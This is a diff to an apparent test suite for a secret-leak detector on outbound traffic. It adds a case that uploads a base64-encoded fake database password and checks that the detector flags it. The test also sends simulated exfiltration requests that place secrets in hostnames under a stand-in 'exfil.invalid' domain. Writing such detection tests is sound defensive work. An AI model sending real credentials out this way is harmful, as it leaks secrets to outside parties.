@@ -51,6 +51,7 @@ const svc = createTrafficGuardian({
     shutdown_grace_ms: 200,
   },
   logger,
+  knownSecrets: { DB_PASSWORD: s.dbPassword },
   onFinding: (f) => console.log('finding', JSON.stringify(f)),
   statusIntervalMs: 100,
 });
@@ -98,6 +99,9 @@ function toHost(method, target, host) {
 }
 console.log('r5', await toHost('GET', 'http://' + s.hostAws + '.exfil.invalid/p', s.hostAws + '.exfil.invalid'));
 console.log('r6', await toHost('CONNECT', s.hostGithub + '.exfil.invalid:443', s.hostGithub + '.exfil.invalid:443'));
+// A known secret (no format of its own), base64-encoded in a JSON body.
+console.log('r7', await send('POST', '/upload', { 'content-type': 'application/json' },
+  JSON.stringify({ blob: Buffer.from('pw:' + s.dbPassword).toString('base64') })));
 await new Promise((r) => setTimeout(r, 300));
 console.log('status', JSON.stringify(svc.status()));
 console.log('findings', JSON.stringify(svc.findings({ limit: 100 })));
@@ -166,8 +170,19 @@ describe('secrets stay secret under RUST_LOG=trace', () => {
       wrongToken: fakeRuntimeToken(),
       badToken: fakeRuntimeToken(),
       proxyPassword: fakeRuntimeToken(),
+      dbPassword: fakeRuntimeToken(),
     };
-    secrets = [...set.all, github2, ...hostSecrets, s.runtimeToken, s.wrongToken, s.badToken, s.proxyPassword];
+    secrets = [
+      ...set.all,
+      github2,
+      ...hostSecrets,
+      s.runtimeToken,
+      s.wrongToken,
+      s.badToken,
+      s.proxyPassword,
+      s.dbPassword,
+      Buffer.from(`pw:${s.dbPassword}`).toString('base64'),
+    ];
     const secretsFile = join(dir, 'secrets.json');
     await writeFile(secretsFile, JSON.stringify(s), { mode: 0o600 });
     const script = join(dir, 'child.mjs');
@@ -204,6 +219,8 @@ describe('secrets stay secret under RUST_LOG=trace', () => {
     expect(run.stdout).toMatch(/"auth_failures":1/);
     // The planted items were detected (so the secrets really passed through).
     expect(run.stdout).toContain('"pattern":"aws_access_key_id"');
+    expect(run.stdout).toContain('r7 200');
+    expect(run.stdout).toMatch(/"pattern":"known_secret"[^}]*DB_PASSWORD/);
     expect(run.stdout).toContain('stopped');
   });
 
